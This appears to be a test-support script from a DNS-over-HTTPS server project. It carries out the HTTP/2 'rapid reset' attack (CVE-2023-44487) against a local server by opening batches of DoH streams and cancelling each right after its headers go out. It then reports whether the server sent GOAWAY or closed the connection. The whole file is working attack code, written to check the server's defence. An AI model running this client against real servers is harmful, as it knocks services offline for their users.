// An HTTP/2 "rapid reset" client (CVE-2023-44487), in its own process: it
// opens DoH streams and cancels each (RST_STREAM CANCEL) right after its
// HEADERS went out, `batch` at a time, until it has sent `total` or the
// server sends GOAWAY. Each stream asks another name (no cache hit, no query
// shared with another). `apart`: the resets reach the server a millisecond
// after the HEADERS; `together`: in the same TCP write (a relay in this
// process holds the client's bytes until both are written). Prints one JSON
// line: streams sent, the first GOAWAY code (null: none), and whether the
// connection closed.
//
// node test/support/rapid-reset.mjs https://127.0.0.1:PORT TOTAL BATCH PREFIX apart|together

import { connect, constants } from 'node:http2';
import { connect as tcpConnect, createServer } from 'node:net';
import { connect as tlsConnect } from 'node:tls';

const [url, totalText, batchText, prefix, mode = 'apart'] = process.argv.slice(2);
const total = Number(totalText);
const batch = Number(batchText);
const { hostname, port } = new URL(url);

/** A DNS query for `name` (type A, RD), base64url as GET ?dns= wants it. */
function dnsQuery(name) {
  const labels = name.split('.').flatMap((l) => [l.length, ...Buffer.from(l)]);
  return Buffer.from([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]).toString('base64url');
}

// The relay: client bytes to the server are held while `holding`, then written at once.
let holding = false;
let held = [];
let toServer = null;
const relay = createServer((client) => {
  toServer = tcpConnect({ host: hostname, port: Number(port) });
  toServer.setNoDelay(true);
  client.setNoDelay(true);
  client.on('data', (c) => (holding ? held.push(c) : toServer.write(c)));
  toServer.on('data', (c) => client.write(c));
  for (const s of [client, toServer]) s.on('error', () => undefined);
  client.on('close', () => toServer.destroy());
  toServer.on('close', () => client.destroy());
});
await new Promise((resolve) => relay.listen(0, '127.0.0.1', resolve));
const flush = () => {
  holding = false;
  if (held.length > 0) toServer.write(Buffer.concat(held));
  held = [];
};

const session = connect(url, {
  createConnection: () => tlsConnect({ host: '127.0.0.1', port: relay.address().port, rejectUnauthorized: false, ALPNProtocols: ['h2'], servername: 'dns.aifence.test' }),
});
let goaway = null;
let closed = false;
session.on('goaway', (code) => (goaway ??= code));
session.on('error', () => undefined);
session.on('close', () => (closed = true));
await new Promise((resolve) => session.once('connect', resolve).once('close', resolve));

const tick = (ms) => new Promise((resolve) => (ms === 0 ? setImmediate(resolve) : setTimeout(resolve, ms)));
let sent = 0;
while (sent < total && !closed && goaway === null) {
  const streams = [];
  if (mode === 'together') holding = true;
  for (let i = 0; i < batch && sent < total; i++, sent++) {
    try {
      const req = session.request({ ':method': 'GET', ':path': `/dns-query?dns=${dnsQuery(`${prefix}-${sent}.example`)}` });
      req.on('error', () => undefined);
      streams.push(req);
    } catch {
      closed = true; // the session went while sending
      break;
    }
  }
  // The HEADERS frames are written on a later turn of the loop (a reset before that cancels them unsent): then the resets.
  await tick(1);
  for (const s of streams) s.close(constants.NGHTTP2_CANCEL);
  await tick(mode === 'together' ? 2 : 0);
  flush();
}
await tick(300);
console.log(JSON.stringify({ sent, goaway, closed }));
session.destroy();
relay.close();
